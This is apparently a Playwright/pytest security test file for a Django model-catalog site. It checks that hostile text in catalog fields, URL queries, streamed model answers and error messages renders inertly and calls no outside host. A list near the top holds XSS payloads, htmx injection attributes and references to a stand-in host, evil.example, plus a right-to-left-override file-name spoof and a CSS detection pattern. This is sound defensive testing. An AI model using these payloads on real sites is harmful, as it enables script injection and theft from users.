"""Foreign text in every place that shows it: it stays text. Nothing runs, nothing is asked of another host, no line is turned."""

import json
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any
from urllib.parse import urlencode, urlsplit

import pytest
from django.db import connections
from playwright.sync_api import Browser, Page, expect

from catalog import snapshot
from catalog.models import Change, Model, Proof, Version

EVIL = "https://evil.example"
ATTACKS = [
    "<script>window.pwned=1</script>", f"<script src={EVIL}/x.js></script>", f"<img src={EVIL}/x.png onerror='window.pwned=1'>",
    "<svg onload=window.pwned=1><script>window.pwned=1</script></svg>", f"<svg><use href='{EVIL}/x.svg#a'/></svg>",
    f"<iframe src='{EVIL}' srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f"<object data='{EVIL}'></object><embed src='{EVIL}'>",
    f"<style>@import '{EVIL}/x.css'; body {{ background: url({EVIL}/x.png) }}</style>",
    f"<link rel=stylesheet href='{EVIL}/x.css'>",
    f"<base href='{EVIL}/'>", f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<form action='{EVIL}'><button>x</button></form>",
    "<div hx-get='/docs' hx-trigger='load' hx-target='body'>x</div>", "<div data-hx-get='/docs' data-hx-trigger='load'>x</div>",
    f"<div hx-get='{EVIL}' hx-trigger='load'>x</div>", "<div hx-on:click='window.pwned=1' hx-on::load='window.pwned=1'>x</div>",
    "<div hx-swap-oob='true' id='result'>x</div>", "<hx-partial hx-target='body'>x</hx-partial>",
    "<template><img src=x></template>",
    "<a href='javascript:window.pwned=1'>x</a>", "<a href='data:text/html,<script>1</script>'>x</a>",
    "[x](javascript:window.pwned=1)",
    f"![x]({EVIL}/x.png)", f"<{EVIL}/auto>", "</div></main></body>", "</textarea><script>window.pwned=1</script>",
    "</script><script>window.pwned=1",
    "<!-- ", "]]>", "{{ 7|add:7 }}", "{% load x %}", "\"'><b autofocus onfocus=window.pwned=1>", "&lt;b&gt;", "&#60;b&#62;",
    f"<video src={EVIL}/x.mp4 onloadstart=window.pwned=1></video>", "<details open ontoggle=window.pwned=1>",
    "<math><mi xlink:href=x>",
]  # fmt: skip
HOSTILE = "\n".join(ATTACKS)
# What an attack would have made of a page, if it had become part of it.
LIVE = (
    "iframe, object, embed, base, frame, math, meta[http-equiv], script:not([src]):not([type='application/ld+json']), "
    "main style, main link, "
    "template:not([data-message]), [onerror], [onload], [onfocus], [ontoggle], [onloadstart], [srcdoc], "
    "[hx-on\\:click], [hx-swap-oob], hx-partial, "
    "a[href^='javascript:'], a[href^='data:'], [src^='https://evil'], [action^='https://evil'], [hx-get^='https://evil'], "
    "link[href^='https://evil'], use[href^='https://evil'], [hx-get='/docs'], [data-hx-get]"
)
TURNED = "user\u202egpj.exe \u2066\u202etxt"


@pytest.fixture
def watched(visit, site) -> Iterator[Callable[..., Page]]:
    """`visit`, of whose pages every request and every dialog is kept: none may lead elsewhere, and none may open."""
    asked: list[str] = []
    opened: list[str] = []

    def go(path: str, **options: Any) -> Page:
        page = visit("/healthz", **options)
        page.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: (opened.append(dialog.message), dialog.dismiss()))
        page.goto(path)
        return page

    yield go
    hosts = {urlsplit(url).netloc for url in asked if not url.startswith("data:")}
    assert hosts == {urlsplit(site).netloc} and opened == []


def inert(page: Page) -> None:
    assert page.evaluate(f"[...document.querySelectorAll({json.dumps(LIVE)})].map((one) => one.outerHTML.slice(0, 200))") == []
    assert page.evaluate("window.pwned") is None


@pytest.fixture
def foreign(gateway, served) -> Iterator[str]:
    """A model of which every text is hostile, in a row from before such texts were looked at."""
    with ThreadPoolExecutor(1) as pool:  # Playwright's loop runs in this one
        kept = pool.submit(written, served).result()
        yield served
        pool.submit(taken_back, served, kept).result()
        pool.submit(connections.close_all).result()


TEXTS = ("name", "description", "family", "strengths", "use_cases")


def written(slug: str) -> dict[str, Any]:
    model = Model.objects.get(slug=slug)
    kept = {field: getattr(model, field) for field in TEXTS}
    texts = {"name": "".join(ATTACKS)[:200], "family": ATTACKS[0], "description": HOSTILE}
    Model.objects.filter(slug=slug).update(**texts, strengths=ATTACKS, use_cases=ATTACKS)
    Proof.objects.create(
        model=model, ability="seed", passed=False, reason=HOSTILE + TURNED, request=HOSTILE, response=HOSTILE + TURNED,
        gateway=gateway_address(),
    )  # fmt: skip
    Change.objects.create(model=model, field="description", before=HOSTILE, after=HOSTILE, source="litellm")
    refreshed()
    return kept


def gateway_address() -> str:
    from django.conf import settings

    return settings.GATEWAY_URL


def taken_back(slug: str, kept: dict[str, Any]) -> None:
    Model.objects.filter(slug=slug).update(**kept)
    Proof.objects.filter(model__slug=slug).delete()
    Change.objects.filter(model__slug=slug, before=HOSTILE).delete()
    refreshed()


def refreshed() -> None:
    Version.bump()
    snapshot.refresh()


PAGES = [
    "/models/{}", "/models?q={}", "/models?q={}&view=cards", "/", "/compare?models={},openai/tts-1-hd", "/calculator?models={}",
    "/models/{}/changes", "/changes", "/models/{}/proofs", "/playground?model={}", "/playground?models={},{}",
    "/reference", "/rankings",
]  # fmt: skip


def test_a_hostile_catalog_stays_text(watched, foreign):
    page = watched("/docs")
    for path in PAGES:
        page.goto(path.replace("{}", foreign))
        inert(page)
    page.keyboard.press("Control+k")
    page.keyboard.type(foreign)
    expect(page.get_by_role("option").first).to_be_visible()
    inert(page)


ASKED = ("q", "sort", "modality", "provider", "strange")


def test_a_hostile_query_stays_text(watched):
    page = watched("/docs")
    for n in range(0, len(ATTACKS), len(ASKED)):
        page.goto("/models?" + urlencode(list(zip(ASKED, ATTACKS[n:], strict=False))))
        inert(page)


def said(**delta: Any) -> tuple:
    """A streamed answer."""
    event = {"id": HOSTILE, "model": HOSTILE, "choices": [{"index": 0, "delta": delta, "finish_reason": "stop"}]}
    return 200, f"data: {json.dumps(event)}\n\ndata: [DONE]\n\n", ("Content-Type", "text/event-stream"), ("X-Evil", ATTACKS[0])


def run(page: Page) -> None:
    page.get_by_role("button", name="Run", exact=True).click()
    expect(page.locator("#inspector").get_by_role("heading", name="Inspector")).to_be_visible()


def test_a_hostile_answer_stays_text(watched, gateway, served):
    call = {"index": 0, "id": ATTACKS[0], "type": "function", "function": {"name": ATTACKS[2], "arguments": HOSTILE}}
    gateway.posted = said(content=HOSTILE + TURNED, reasoning_content=HOSTILE, tool_calls=[call], refusal=HOSTILE)
    page = watched(f"/playground?model={served}")
    run(page)
    expect(page.locator("#out[hx-ignore]")).to_contain_text("window.pwned")
    expect(page.locator("#response [hx-ignore]").first).to_contain_text("window.pwned")
    inert(page)
    page.get_by_label("Formatted").first.check()
    expect(page.locator(".formatted").first).to_contain_text("window.pwned")
    inert(page)
    assert page.locator(".formatted a").evaluate_all("(links) => links.map((link) => link.protocol)") in (["https:"], [])
    page.goto("/playground/runs")
    inert(page)
    page.locator("main a[href*='/playground/runs/']").first.click()
    inert(page)


@pytest.mark.parametrize("status", [400, 429])
def test_a_hostile_error_stays_text(watched, gateway, served, status):
    body = {"error": {"message": HOSTILE + TURNED, "type": ATTACKS[0], "param": ATTACKS[1], "code": ATTACKS[2]}}
    gateway.posted = (status, body, ("Retry-After", ATTACKS[0]))
    page = watched(f"/playground?model={served}")
    run(page)
    expect(page.locator("#result [role=alert]")).to_contain_text("window.pwned")
    inert(page)


def test_html_in_place_of_an_answer_stays_text(watched, gateway, served):
    gateway.posted = (200, f"<html><body>{HOSTILE}</body></html>", ("Content-Type", "text/html"))
    page = watched(f"/playground?model={served}")
    run(page)
    expect(page.locator("#response")).to_contain_text("window.pwned")
    inert(page)


# Where each letter of a text is shown, from the left.
PLACES = """(box) => {
  const letters = [], walk = document.createTreeWalker(box, NodeFilter.SHOW_TEXT);
  while (walk.nextNode()) for (let n = 0; n < walk.currentNode.data.length; n++) {
    const range = document.createRange();
    range.setStart(walk.currentNode, n);
    range.setEnd(walk.currentNode, n + 1);
    if (/[a-z]/.test(walk.currentNode.data[n])) letters.push(range.getBoundingClientRect().left);
  }
  return letters;
}"""


def test_a_mark_that_turns_the_text_is_shown_and_turns_nothing(visit, gateway, served):
    gateway.posted = said(content=TURNED)
    page = visit(f"/playground?model={served}")
    run(page)
    places = page.locator("#out").evaluate(PLACES)
    assert len(places) == 13 and places == sorted(places)
    assert page.locator("#out").text_content() == TURNED
    marks = page.locator("#out .ctl").evaluate_all("(marks) => marks.map((mark) => mark.dataset.code)")
    assert marks == ["U+202E", "U+2066", "U+202E"]


@pytest.fixture
def bare(browser: Browser, site) -> Iterator[Page]:
    """A page of which the console is not watched: what is refused here is told there."""
    context = browser.new_context(base_url=site)
    page = context.new_page()
    page.goto("/docs")
    page.wait_for_function("window.htmx")
    yield page
    context.close()


MAKE = """([outer, attributes]) => {
  const around = document.createElement("div"), one = document.createElement("div");
  if (outer) around.setAttribute(outer, "");
  for (const [name, value] of Object.entries(attributes)) one.setAttribute(name, value);
  around.append(one);
  document.body.append(around);
  htmx.process(around);
  one.click();
}"""


def made(page: Page, outer: str, **attributes: str) -> list[str]:
    """The addresses asked for once such an element is in the page, which htmx has processed and somebody clicked."""
    asked: list[str] = []
    page.on("request", lambda request: asked.append(urlsplit(request.url).path))
    page.evaluate(MAKE, [outer, {name.replace("_", "-").replace("--", ":"): value for name, value in attributes.items()}])
    page.evaluate("fetch('/healthz').then((answer) => answer.text())")  # after whatever was asked before it
    return asked[: asked.index("/healthz")]


def test_htmx_passes_over_what_stands_in_foreign_text(bare):
    assert made(bare, "", hx_get="/readyz") == ["/readyz"]
    assert made(bare, "hx-ignore", hx_get="/readyz") == []


def test_htmx_makes_no_code_of_an_attribute(bare):
    assert made(bare, "", hx_get="/readyz", hx_trigger="click[window.pwned=1]") == []
    made(bare, "", hx_on__click="window.pwned = 1")
    made(bare, "", hx_get="/readyz", hx_vals="js:{a: window.pwned = 1}")
    assert bare.evaluate("window.pwned") is None


def test_htmx_asks_no_other_host(bare):
    away: list[str] = []
    bare.on("request", lambda request: away.append(request.url) if "evil.example" in request.url else None)
    assert made(bare, "", hx_get=f"{EVIL}/x") == []
    assert bare.evaluate("htmx.config.mode") == "same-origin" and away == []


@pytest.mark.parametrize("sink", [
    "document.body.innerHTML = '<b>x</b>'", "document.write('x')", "new DOMParser().parseFromString('x', 'text/html')",
    "document.createElement('script').src = '/static/js/frame.js'", "setTimeout('window.pwned = 1')",
    "trustedTypes.createPolicy('another', {})",
])  # fmt: skip
def test_no_script_makes_part_of_a_page_of_a_text(bare, sink):
    told = bare.evaluate(f"() => {{ try {{ {sink}; return '' }} catch (error) {{ return error.name }} }}")
    assert told in ("TypeError", "EvalError")


def test_the_admin_works_under_its_policy(signed_in):
    """Its own scripts, from the date picker to the popup of a related row. What a policy refuses fails the test."""
    page = signed_in("/admin/")
    for path in ("catalog/model/", "catalog/model/add/", "catalog/collection/add/", "auth/user/1/change/", "playground/run/"):
        page.goto(f"/admin/{path}")
        expect(page.locator("#content")).to_be_visible()
    page.goto("/admin/catalog/model/add/")
    page.locator(".datetimeshortcuts a", has_text="Today").first.click()
    assert page.locator("input.vDateField").first.input_value()
